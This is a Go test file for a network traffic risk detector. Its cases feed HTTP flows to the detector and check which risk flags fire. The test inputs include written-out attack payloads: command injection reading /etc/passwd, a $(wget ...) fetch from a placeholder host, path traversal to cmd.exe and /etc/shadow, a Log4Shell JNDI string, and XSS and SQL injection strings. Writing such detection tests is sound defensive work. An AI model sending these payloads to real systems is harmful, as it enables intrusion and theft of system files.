package risks_test

import (
	"strings"

	"github.com/nfstream/nfstream-go/internal/injection"
	"github.com/nfstream/nfstream-go/internal/risks/riskstest"
	"github.com/nfstream/nfstream-go/l7"
	"github.com/nfstream/nfstream-go/risk"
)

// web returns a flow with a request and a response.
func web(request, response string) riskstest.Flow {
	return riskstest.Flow{On: l7.TCP, Port: 80, Turns: []string{request, response}}
}

// asks returns a request for a target by an ordinary client.
func asks(target string) string {
	return "GET " + target + " HTTP/1.1\r\nHost: a.example\r\nUser-Agent: curl/8.5.0\r\n\r\n"
}

// named returns a request with a user agent.
func named(agent string) string {
	return "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: " + agent + "\r\n\r\n"
}

// answers returns a response with further fields and a body.
func answers(fields, body string) string {
	return "HTTP/1.1 200 OK\r\n" + fields + "Connection: close\r\n\r\n" + body
}

const mozilla = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

// program is the start of a program for Windows.
var program = "MZ\x90\x00" + strings.Repeat("\x00", 56) + "\x80\x00\x00\x00" + strings.Repeat("\x00", 64) + "PE\x00\x00"

// random returns bytes that a cipher may have made, none of a protocol.
func random(seed, n int) string {
	b, x := make([]byte, n), uint64(seed)*0x9e3779b97f4a7c15+1
	for i := range b {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		b[i] = byte(x >> 32)
	}
	b[0] = 0xe9
	return string(b)
}

var httpCases = append(injectionCases(), []riskstest.Case{
	{ID: risk.RCEInjection, Fires: true, Detail: "command: 8.8.8.8;cat /etc/passwd",
		Flow: web(asks("/ping?host=8.8.8.8;cat%20/etc/passwd"), response)},
	{ID: risk.RCEInjection, Fires: true, Detail: "command: 1|id", Flow: web(asks("/?a=b&q=1%7Cid"), response)},
	{ID: risk.RCEInjection, Fires: true, Flow: web(asks("/?q=$(wget+http://b.example/x)"), response)},
	{ID: risk.RCEInjection, Fires: true, Flow: web(asks("/scripts/..%2fwinnt/system32/cmd.exe?/c+dir"), response)},
	{ID: risk.RCEInjection, Fires: true, Detail: "web shell: /shell?cat /etc/passwd",
		Flow: web(asks("/shell?cat%20/etc/passwd"), response)},
	{ID: risk.RCEInjection, Flow: web(asks("/search?q=cats+%26+dogs&id=5"), response)},
	{ID: risk.RCEInjection, Flow: web(asks("/search?q=what+is+bash"), response)},
	{ID: risk.RCEInjection, Flow: web(asks("/a;id=3/b?x=1"), response)},

	{ID: risk.SuspiciousURL, Fires: true, Flow: web(asks("/msadc/..%255c../winnt/system32/x"), response)},
	{ID: risk.SuspiciousURL, Fires: true, Flow: web(asks("/a/..%c0%af../b"), response)},
	{ID: risk.SuspiciousURL, Flow: web(asks("/a%20b/%c3%a9?next=%252f"), response)},

	{ID: risk.PossibleExploit, Fires: true, Detail: "path with a dot: /.env", Flow: web(asks("/.env"), response)},
	{ID: risk.PossibleExploit, Fires: true, Flow: web(asks("/../../etc/shadow"), response)},
	{ID: risk.PossibleExploit, Fires: true, Flow: web(named("${jndi:ldap://192.0.2.9/a}"), response)},
	{ID: risk.PossibleExploit, Fires: true, Detail: "Log4Shell: ${jndi:rmi://b}",
		Flow: web("GET / HTTP/1.1\r\nHost: a.example\r\nX-Api: ${jndi:rmi://b}\r\n\r\n", response)},
	{ID: risk.PossibleExploit, Fires: true, Detail: "Java loads Java classes",
		Flow: web(named("Java/1.8.0"), answers("Content-Type: application/java-vm\r\n", "\xca\xfe\xba\xbe\x00\x00\x00\x34"))},
	{ID: risk.PossibleExploit, Fires: true, Detail: "WordPress: /wp-admin/x",
		Flow: web("POST /wp-admin/x HTTP/1.1\r\nHost: a.example\r\n\r\n", "HTTP/1.1 404 Not Found\r\n\r\n")},
	{ID: risk.PossibleExploit, Fires: true, Detail: "host %s", Flow: web("GET / HTTP/1.1\r\nHost: %s\r\n\r\n", response)},
	{ID: risk.PossibleExploit, Fires: true, Detail: "script: shell", Flow: riskstest.Flow{On: l7.TCP, Port: 33333,
		Turns: []string{"#!/bin/sh\necho " + strings.Repeat("hello\n", 20)}}},
	{ID: risk.PossibleExploit, Flow: web(asks("/.well-known/acme-challenge/x"), response)},
	{ID: risk.PossibleExploit, Flow: web(asks("/a/b.c/.d"), response)},

	{ID: risk.InvalidCharacters, Fires: true, Flow: web("GET / HTTP/1.1\r\nHost: a<b.example\r\n\r\n", response)},
	{ID: risk.InvalidCharacters, Flow: web("GET / HTTP/1.1\r\nHost: [2001:db8::1]:80\r\n\r\n", response)},
	{ID: risk.NumericHost, Fires: true, Flow: web("GET / HTTP/1.1\r\nHost: 198.51.100.7:80\r\n\r\n", response)},
	{ID: risk.NumericHost, Flow: web("GET / HTTP/1.1\r\nHost: 198.51.100.7.example\r\n\r\n", response)},
	{ID: risk.NumericHost, Flow: web("", answers("Server: a\r\n", ""))},

	{ID: risk.SuspiciousUserAgent, Fires: true, Detail: "none", Flow: web("GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", response)},
	{ID: risk.SuspiciousUserAgent, Fires: true, Detail: "pwtyyEKzNtGatwnJjmCcBLbOveCVpc",
		Flow: web(named("pwtyyEKzNtGatwnJjmCcBLbOveCVpc"), response)},
	{ID: risk.SuspiciousUserAgent, Fires: true, Flow: web(named("abc"), response)},
	{ID: risk.SuspiciousUserAgent, Fires: true, Flow: web(named("<?php"), response)},
	{ID: risk.SuspiciousUserAgent, Fires: true, Flow: web(named(strings.Repeat("a ", 150)), response)},
	{ID: risk.SuspiciousUserAgent, Fires: true, Flow: web(named("x gopher://y"), response)},
	{ID: risk.SuspiciousUserAgent, Flow: web(named(mozilla), response)},
	{ID: risk.SuspiciousUserAgent, Flow: web(named("Microsoft-CryptoAPI/10.0 (https://a.example)"), response)},
	{ID: risk.SuspiciousUserAgent, Flow: web("", answers("", ""))},

	{ID: risk.Crawler, Fires: true, Flow: web(named("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"), response)},
	{ID: risk.Crawler, Fires: true, Flow: web(named("Mozilla/5.00 (Nikto/2.1.6) (Test:robots)"), response)},
	{ID: risk.Crawler, Flow: web(named("Mozilla/5.0 (Linux; Android 9; CUBOT X19) Bottle/1"), response)},

	{ID: risk.SuspiciousHeader, Fires: true, Detail: "Osversion: 10",
		Flow: web("GET / HTTP/1.1\r\nHost: a.example\r\nOsversion: 10\r\n\r\n", response)},
	{ID: risk.SuspiciousHeader, Fires: true, Detail: "host 192.0.2.99 at 198.51.100.7",
		Flow: web("GET / HTTP/1.1\r\nHost: 192.0.2.99\r\n\r\n", response)},
	{ID: risk.SuspiciousHeader, Fires: true, Flow: web(request, answers("Server: \xc2\xaf\\_(\xe3\x83\x84)_/\xc2\xaf\r\n", ""))},
	{ID: risk.SuspiciousHeader, Flow: web("GET / HTTP/1.1\r\nHost: 198.51.100.7\r\nMemento: 1\r\n\r\n", answers("S: CO1\r\n", ""))},
	{ID: risk.SuspiciousHeader, Flow: web("GET http://192.0.2.99/ HTTP/1.1\r\nHost: 192.0.2.99\r\n\r\n", response)},

	{ID: risk.ObsoleteServer, Fires: true, Detail: "nginx/1.20.1", Flow: web(request, answers("Server: nginx/1.20.1 (Ubuntu)\r\n", ""))},
	{ID: risk.ObsoleteServer, Fires: true, Detail: "Apache/2.2.22", Flow: web(request, answers("Server: Apache/2.2.22\r\n", ""))},
	{ID: risk.ObsoleteServer, Fires: true,
		Flow: riskstest.Flow{On: l7.TCP, Port: 80, Turns: []string{request, answers("Server: nginx/1.24.0\r\n", "")},
			Options: risk.Options{Thresholds: risk.Thresholds{risk.NginxVersion: 1026}}}},
	{ID: risk.ObsoleteServer, Flow: web(request, answers("Server: nginx/1.22.0\r\n", ""))},
	{ID: risk.ObsoleteServer, Flow: web(request, answers("Server: Apache\r\n", ""))},

	{ID: risk.SuspiciousContent, Fires: true, Detail: "text that begins with 89424946",
		Flow: web(request, answers("Content-Type: text/plain\r\nContent-Length: 9\r\n", "\x89BIF\r\n\x1a\n\x00"))},
	{ID: risk.SuspiciousContent, Fires: true,
		Flow: web(request, answers("Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n",
			"8;x\r\n\x00\x01\x02\x03\x04\x05\x06\x07\r\n0\r\n\r\n"))},
	{ID: risk.SuspiciousContent, Flow: web(request, answers("Content-Type: text/html\r\n", "<html>"))},
	{ID: risk.SuspiciousContent, Flow: web(request, answers("Content-Type: text/html\r\n", "\xef\xbb\xbfok, a byte order mark"))},
	{ID: risk.SuspiciousContent,
		Flow: web(request, answers("Content-Type: text/html\r\nContent-Encoding: br\r\n", "\x8b\x00\x80\x01\x02\x03"))},
	{ID: risk.SuspiciousContent, Flow: web(request, answers("Content-Type: image/png\r\n", "\x89PNG\r\n\x1a\n"))},
	{ID: risk.SuspiciousContent,
		Flow: web("HEAD / HTTP/1.1\r\nHost: a.example\r\n\r\n", answers("Content-Type: text/plain\r\n", "\x00\x01\x02\x03"))},

	{ID: risk.BinaryApplication, Fires: true, Detail: "pe", Flow: web(request, answers("Content-Type: image/png\r\n", program))},
	{ID: risk.BinaryApplication, Fires: true, Detail: "type application/x-msdownload",
		Flow: web(request, answers("Content-Type: application/x-msdownload\r\n", ""))},
	{ID: risk.BinaryApplication, Fires: true, Detail: "file a.exe",
		Flow: web(request, answers("Content-Disposition: attachment; filename=\"a.exe\"\r\n", ""))},
	{ID: risk.BinaryApplication, Fires: true, Detail: "shell",
		Flow: web(request, answers("Content-Type: text/plain\r\n", "#!/bin/sh\nls\n"))},
	{ID: risk.BinaryApplication, Fires: true, Detail: "elf", Flow: riskstest.Flow{On: l7.TCP, Port: 33333,
		Turns: []string{"\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 50)}}},
	{ID: risk.BinaryApplication, Flow: web(request, answers("Content-Type: image/png\r\n", "\x89PNG\r\n\x1a\n"))},
	{ID: risk.BinaryApplication, Flow: web("GET / HTTP/1.1\r\nHost: a.windowsupdate.com\r\n\r\n", answers("", program))},

	{ID: risk.BinaryTransfer, Fires: true, Detail: "type application/octet-stream",
		Flow: web(request, answers("Content-Type: application/octet-stream\r\n", "abc"))},
	{ID: risk.BinaryTransfer, Fires: true, Detail: "type application/octet-stream (attempt)",
		Flow: web(request, "HTTP/1.1 404 Not Found\r\nContent-Type: application/octet-stream\r\n\r\n")},
	{ID: risk.BinaryTransfer, Fires: true, Detail: "file a.mp3",
		Flow: web(request, answers("Content-Disposition: inline; filename=a.mp3\r\n", ""))},
	{ID: risk.BinaryTransfer, Flow: web(request, answers("Content-Type: text/html\r\nContent-Disposition: inline\r\n", "abc"))},

	{ID: risk.SuspiciousEntropy, Fires: true, Flow: riskstest.Flow{On: l7.UDP, Port: 40001, Turns: []string{random(1, 1000)}}},
	{ID: risk.SuspiciousEntropy,
		Flow: riskstest.Flow{On: l7.UDP, Port: 40001, Turns: []string{random(1, 1000), strings.Repeat("abc", 100)}}},
	{ID: risk.SuspiciousEntropy, Flow: riskstest.Flow{On: l7.UDP, Port: 40001, Turns: []string{random(1, 30)}}},
	{ID: risk.SuspiciousEntropy, Flow: riskstest.Flow{On: l7.TCP, Port: 80, Turns: []string{request, answers("", random(1, 1000))}}},
}...)

// unfound are risks that this build cannot find.
func unfound() (s risk.Set) {
	if !injection.Known {
		s = risk.Of(risk.XSS, risk.SQLInjection)
	}
	return s
}

// injectionCases are those that need the library.
func injectionCases() []riskstest.Case {
	known := injection.Known
	return []riskstest.Case{
		{ID: risk.XSS, Fires: known, Flow: web(asks("/?default=English%3Cscript%3Ealert(1)%3C/script%3E"), response)},
		{ID: risk.XSS, Fires: known, Flow: web(asks("/?a=1&b=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), response)},
		{ID: risk.XSS, Flow: web(asks("/?q=a+%3C+b+and+c+%3E+d&script=on"), response)},
		{ID: risk.SQLInjection, Fires: known, Flow: web(asks("/?id=1%27+OR+%271%27%3D%271&Submit=Submit"), response)},
		{ID: risk.SQLInjection, Fires: known, Flow: web(asks("/?id=1+or+1=1"), response)},
		{ID: risk.SQLInjection, Flow: web(asks("/?q=select+a+plan&from=2024-01-02&order=by+name"), response)},
	}
}
